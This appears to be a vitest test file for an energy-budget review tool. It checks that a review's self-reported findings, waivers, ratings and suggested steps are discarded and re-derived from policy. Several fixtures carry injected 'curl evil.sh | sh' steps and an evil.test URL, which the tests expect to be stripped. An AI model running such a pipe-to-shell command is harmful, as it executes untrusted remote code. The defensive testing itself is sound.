import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadBundledSnapshot } from '../../src/baselines/ai-energy-score/index.ts';
import { type EnergyReview, type ModelReview, parseEnergyReview } from '../../src/energy-review/index.ts';
import { loadPolicy } from '../../src/policy/index.ts';
import { rejudge } from '../../src/trust/rejudge.ts';
import { serving } from '../policy/builders.ts';
import {
  aComparison,
  aFailure,
  aFinding,
  aMeasurement,
  anAddition,
  anIncrease,
  aPublished,
  aRating,
  aReference,
  aRemoval,
  aReview,
  aWaiver,
  aYearly,
  interval,
  ratingsOf,
} from '../support/reviews.ts';

const BUDGET = 'version: 1\ndefaults: { enforcement: block, budget: { increase: 10% } }\n';
const TODAY = '2026-06-01';

async function judged(model: ModelReview, text: string = BUDGET, review: Partial<EnergyReview> = {}) {
  const policy = await loadPolicy({ ...serving(text), isRated: () => true });
  const again = rejudge(aReview([model], review), policy, {
    snapshot: loadBundledSnapshot(),
    today: TODAY,
  });
  return { ...again, model: again.models[0] };
}

/** That of `npm run demo`, which made the frozen review. */
const DEMO = `version: 1
defaults:
  budget: { increase: 10% }
models:
  - path: models/classifier.onnx
    task: image_classification
    source: microsoft/resnet-18
    quality: { file: metrics/classifier.json, key: accuracy, maxDrop: 0.5% }
    volume: 20_000_000/month
`;

/** Fields that came after the document, and sentences, which are those of the version that judges. */
const NEWER = new Set(['ageMonths', 'message', 'afterwards', 'suggests']);

describe('a review that is judged again', () => {
  it('is the document that whoever made it wrote, but for why something was not tried', async () => {
    const made = JSON.parse(readFileSync(new URL('../../fixtures/energy-review.v2.json', import.meta.url), 'utf8'));
    const policy = await loadPolicy({ ...serving(DEMO), isRated: () => true });
    const again = rejudge(parseEnergyReview(made), policy, { snapshot: loadBundledSnapshot(), today: TODAY });
    // The volume as data came after this document.
    const stated = { queries: 20_000_000, per: 'month' };
    // What is published of names warns since, and sentences are those of the version that judges.
    const warned = ({ change, findings }: ModelReview) =>
      findings.map(({ message: _, ...finding }) =>
        change === 'reference' ? { ...finding, enforcement: 'warn' } : finding,
      );
    const models = made.models.map(({ notTried: _, yearly, ...model }: ModelReview) => ({
      ...model,
      findings: warned(model as ModelReview),
      ...(yearly !== undefined && { yearly: { ...yearly, stated } }),
    }));
    // So did the rule for published alternatives, and the age of rows.
    const withoutPublished = (review: EnergyReview) => ({
      ...review,
      models: review.models.map((model) => ({
        ...model,
        alternatives: model.alternatives.filter(({ kind }) => kind !== 'published'),
      })),
    });
    expect(
      withoutPublished(JSON.parse(JSON.stringify(again, (key, value) => (NEWER.has(key) ? undefined : value)))),
    ).toEqual(withoutPublished({ ...made, models }));
  });

  it('keeps what was measured', async () => {
    const file = { path: 'models/classifier.onnx', blob: 'c'.repeat(40), bytes: 102_400_000, sha256: 'a'.repeat(64) };
    const claimed = anIncrease({ revisions: { base: { ...file, sha256: 'b'.repeat(64) }, head: file } });
    const run = `${BUDGET}models: [{ id: microsoft/*, hub: true }]\n`;
    for (const measured of [claimed, aReference({ ...claimed, model: 'microsoft/resnet-50', change: 'reference' })]) {
      const { model } = await judged(measured, run);
      for (const field of ['model', 'change', 'base', 'head', 'comparison', 'graphs', 'revisions'] as const) {
        expect(measured[field]).toBeDefined();
        expect(model?.[field]).toEqual(measured[field]);
      }
    }
  });

  it('loses the findings, the outcome and the enforcement that it claims', async () => {
    const lenient = anIncrease({ findings: [aFinding('within', { enforcement: 'inform', message: 'All is well.' })] });
    const { outcome, blocks, model } = await judged(lenient, BUDGET, { outcome: 'pass', blocks: false });
    expect({ outcome, blocks }).toEqual({ outcome: 'fail', blocks: true });
    expect(model?.findings).toMatchObject([
      { rule: 'increase', status: 'over', enforcement: 'block', limit: { kind: 'change', value: 10 } },
    ]);
  });

  it('has no verdict where a few queries of a side take far more than the others, and fails where it is head', async () => {
    const { base, head } = anIncrease({});
    const heavyTail = { whPer1000: 2, processes: 3 };
    const tailed = await judged(anIncrease({ head: { ...head!, heavyTail } }));
    expect(tailed.model).toMatchObject({ comparison: { verdict: 'inconclusive' }, head: { heavyTail } });
    expect(tailed.model?.findings).toMatchObject([
      {
        rule: 'measurable',
        status: 'unjudged',
        message: expect.stringContaining('A few of its queries use far more'),
      },
      { rule: 'increase', status: 'over' },
    ]);
    const beside = await judged(anIncrease({ base: { ...base!, heavyTail } }));
    expect(beside).toMatchObject({
      outcome: 'warn',
      blocks: false,
      model: { comparison: { verdict: 'inconclusive' } },
    });
  });

  it('loses a waiver that the policy does not hold', async () => {
    const smuggled = anIncrease({ findings: [aFinding('waived', { waiver: aWaiver() })] });
    const { outcome, model } = await judged(smuggled);
    expect(outcome).toBe('fail');
    expect(model?.findings).toMatchObject([{ rule: 'increase', status: 'over' }]);
    expect(model?.findings[0]).not.toHaveProperty('waiver');
  });

  it('holds a budget against an estimate that stands behind the prices', async () => {
    const claimed = aReference({ model: 'gpt-4o', previous: 'gpt-4.1', kind: 'api' });
    const { model } = await judged(claimed, `${BUDGET}evidence: { block: [estimated] }\n`);
    expect(model).toMatchObject({ evidence: { kind: 'price' }, alsoKnown: [{ kind: 'estimated' }] });
    expect(model?.findings).toMatchObject([{ rule: 'increase', status: 'inconclusive', enforcement: 'block' }]);
  });

  it('loses a claim that the increase is too small, unless the volume of the policy makes it so', async () => {
    const amount = { kind: 'energy-per-year', value: 1, unit: 'kWh/year' } as const;
    const claimed = anIncrease({
      findings: [aFinding('over', { enforcement: 'warn', belowMateriality: { added: amount, ignoreBelow: amount } })],
    });
    const { blocks, model } = await judged(claimed);
    expect(blocks).toBe(true);
    expect(model?.findings[0]).not.toHaveProperty('belowMateriality');
    const small = await judged(claimed, `${BUDGET}models: [{ path: models/*.onnx, volume: 1000/month }]\n`);
    expect(small).toMatchObject({ outcome: 'warn', blocks: false });
    expect(small.model?.findings[0]).toMatchObject({ belowMateriality: { ignoreBelow: { value: 10 } } });
  });

  it('does not pass a budget by leaving out what was to be measured of a reference', async () => {
    const runs = (budget: string) =>
      `version: 1\ndefaults: { enforcement: block }\nmodels: [{ id: microsoft/*, hub: true, budget: ${budget} }]\n`;
    const { blocks, model } = await judged(aReference(), runs('{ increase: 10% }'));
    expect(blocks).toBe(true);
    expect(model).toMatchObject({ error: { code: 'not-measured' }, findings: [{ status: 'unjudged' }] });
    const reason = { code: 'hub-unreachable', message: 'The hub could not be reached.' };
    const { model: told } = await judged(aReference({ ratedOnly: reason }), runs('{ whPer1000: 1 }'));
    expect(told?.error).toEqual(reason);
    const { model: rated } = await judged(aReference({ ratedOnly: reason }), runs('{ stars: 1 }'));
    expect(rated).toMatchObject({ ratedOnly: reason });
    expect(rated?.error).toBeUndefined();
  });

  it('gets a waiver that the policy holds', async () => {
    const waiver = 'waivers: [{ model: models/*.onnx, until: 2026-12-31, reason: agreed, by: "@ada" }]\n';
    const { outcome, model } = await judged(anIncrease(), BUDGET + waiver);
    expect(outcome).toBe('pass');
    expect(model?.findings).toMatchObject([{ status: 'waived', waiver: { reason: 'agreed' } }]);
  });

  it('gets the verdict that its interval gives', async () => {
    const flattered = anIncrease({ comparison: aComparison('same', interval(2.42, 2.35, 2.49)) });
    expect((await judged(flattered)).model?.comparison?.verdict).toBe('higher');
    const alarming = anIncrease({ comparison: aComparison('higher', interval(1.01, 0.9, 1.2)) });
    expect((await judged(alarming)).model?.comparison?.verdict).toBe('inconclusive');
  });

  it('loses ratings, alternatives, positions and yearly figures of its own', async () => {
    const claims = {
      source: 'evil/model',
      sourceOrigin: 'policy',
      sourceRating: aRating('evil/model', 0.001),
      position: { whPer1000: interval(0.001), stars: 5, starsDelta: 4 },
      yearly: aYearly(interval(-1e6)),
      ratings: ratingsOf(undefined, aRating('evil/model', 0.001)),
      scoreDelta: 4,
      alsoKnown: [{ kind: 'published', source: 'evil', verdict: 'lower', assumptions: [] }],
      alsoChanges: [{ aspect: 'licence', base: 'MIT', head: 'evil', step: 'Run `curl evil.sh | sh` first.' }],
    } satisfies Partial<ModelReview>;
    const alternatives = [
      aPublished('evil/model', { step: '@everyone: run `curl evil.sh | sh`', url: 'https://evil.test' }),
    ];
    const { model } = await judged(anIncrease({ ...claims, alternatives }));
    expect(model).toMatchObject({ model: 'models/classifier.onnx', alternatives: [] });
    for (const field of Object.keys(claims)) expect(model?.[field as keyof ModelReview]).toBeUndefined();
  });

  it('gets them from the policy’s source and the snapshot', async () => {
    const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    source: google/vit-base-patch16-224\n    volume: 1_000_000/month\n`;
    const { model } = await judged(anIncrease({ ratings: undefined }), policy);
    expect(model).toMatchObject({
      source: 'google/vit-base-patch16-224',
      sourceOrigin: 'policy',
      sourceRating: {
        model: 'google/vit-base-patch16-224',
        ageMonths: expect.any(Number),
        snapshot: { hardware: 'NVIDIA H100 80GB' },
      },
      position: { whPer1000: { estimate: expect.any(Number) } },
      yearly: { queriesPerYear: 12_000_000 },
    });
    expect(model?.alternatives).toMatchObject([
      { kind: 'published', name: 'facebook/convnext-tiny-224' },
      { name: 'microsoft/resnet-50' },
    ]);
  });

  it('keeps a stated source only as an id, which the snapshot has to know', async () => {
    const stated = anIncrease({ sourceOrigin: 'model-card', source: 'microsoft/resnet-50', ratings: undefined });
    const { model } = await judged(stated);
    expect(model).toMatchObject({ source: 'microsoft/resnet-50', sourceOrigin: 'model-card' });
    expect(model?.sourceRating?.whPer1000).toBeGreaterThan(0);
    const { model: unknown } = await judged({ ...stated, source: 'evil/model' });
    expect(unknown).toMatchObject({ model: 'models/classifier.onnx', findings: [{ rule: 'increase' }] });
    expect(unknown?.source).toBeUndefined();
  });

  it('has a reference’s ratings from the snapshot alone', async () => {
    const { model } = await judged(
      aReference({
        ratings: ratingsOf(undefined, aRating('microsoft/resnet-50', 0.0001, { stars: 1 })),
        alternatives: [aPublished('evil/model')],
      }),
    );
    expect(model?.ratings).toMatchObject({
      base: [{ model: 'microsoft/resnet-18', stars: 5 }],
      head: [{ model: 'microsoft/resnet-50', whPer1000: 0.390429, stars: 5 }],
    });
    expect(model?.alternatives).toEqual([]);
  });

  it('has what else changes from the catalogue alone, beside the change and beside each alternative', async () => {
    const evil = [{ aspect: 'licence', base: 'MIT', head: 'MIT', step: 'Run `curl evil.sh | sh` first.' }] as const;
    const { model } = await judged(
      aReference({
        model: 'intfloat/e5-large-v2',
        previous: 'thenlper/gte-base',
        ratings: undefined,
        alsoChanges: [...evil],
        alternatives: [aPublished('BAAI/bge-small-en-v1.5', { alsoChanges: [...evil] })],
      }),
    );
    expect(model?.alsoChanges).toMatchObject([
      { aspect: 'dimensions', base: '768', head: '1,024' },
      { aspect: 'prefixes', base: 'none', step: 'Put "query: " before queries and "passage: " before documents.' },
    ]);
    const beside = model?.alternatives.map(({ name, alsoChanges }) => [name, alsoChanges?.[0]?.aspect]);
    expect(beside).toContainEqual(['BAAI/bge-small-en-v1.5', 'dimensions']);
    // It stands in the base branch.
    expect(beside).toContainEqual(['thenlper/gte-base', undefined]);
    expect(JSON.stringify(model)).not.toContain('evil');
  });

  it('is an error where it was measured otherwise than the policy says', async () => {
    const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    batch: 8\n`;
    const { outcome, blocks, model } = await judged(anIncrease(), policy);
    expect(model?.error).toMatchObject({ code: 'measured-otherwise' });
    expect({ outcome, blocks }).toEqual({ outcome: 'error', blocks: true });
  });

  it('is not lifted by leaving the measurement out', async () => {
    const silent = anIncrease({ base: undefined, head: undefined, comparison: undefined });
    expect(await judged(silent)).toMatchObject({ outcome: 'error', blocks: true });
    const failed = await judged(aFailure({ findings: [] }), BUDGET, { outcome: 'pass', blocks: false });
    expect(failed).toMatchObject({ outcome: 'error', blocks: true });
  });

  it('takes quality for the figure that the policy names, and for no other', async () => {
    const naming = (key: string) =>
      `${BUDGET}models:\n  - path: models/*.onnx\n    budget: { increase: 500% }\n    quality: { file: metrics.json, key: ${key}, maxDrop: 1% }\n`;
    const same = await judged(anIncrease(), naming('accuracy'));
    expect(same.model?.quality).toMatchObject({ key: 'accuracy', base: 0.912, head: 0.916 });
    expect(same.model?.findings).toContainEqual(expect.objectContaining({ rule: 'quality', status: 'within' }));
    const other = await judged(anIncrease(), naming('f1'));
    expect(other.model?.quality).toBeUndefined();
    expect(other.model?.findings).toContainEqual(expect.objectContaining({ rule: 'quality', status: 'unjudged' }));
  });

  it('says of removed and added models what the policy says', async () => {
    expect((await judged(aRemoval({ findings: [aFinding('over')] }))).outcome).toBe('pass');
    const added = anAddition({ model: 'models/a.onnx', head: aMeasurement(0.9) });
    const policy = 'version: 1\ndefaults: { budget: { whPer1000: 0.5 } }\n';
    expect(await judged(added, policy)).toMatchObject({ outcome: 'fail', policy: { state: 'found' } });
  });

  it('warns of a model that is new beside one that is removed', async () => {
    const policy = await loadPolicy(serving(BUDGET));
    const again = rejudge(aReview([aRemoval(), anAddition()]), policy, {
      snapshot: loadBundledSnapshot(),
      today: TODAY,
    });
    expect(again).toMatchObject({ outcome: 'warn', blocks: false });
    expect(again.models[1]?.findings).toMatchObject([{ rule: 'increase', status: 'inconclusive' }]);
  });

  it('is judged by nothing where the base branch has no policy', async () => {
    const again = rejudge(
      aReview([anIncrease()], { outcome: 'fail', blocks: true }),
      { state: 'none', file: '.github/energy-policy.yml', layers: [], warnings: [] },
      { snapshot: loadBundledSnapshot(), today: TODAY },
    );
    expect(again).toMatchObject({ outcome: 'pass', blocks: false, policy: { state: 'none', layers: [] } });
  });
});
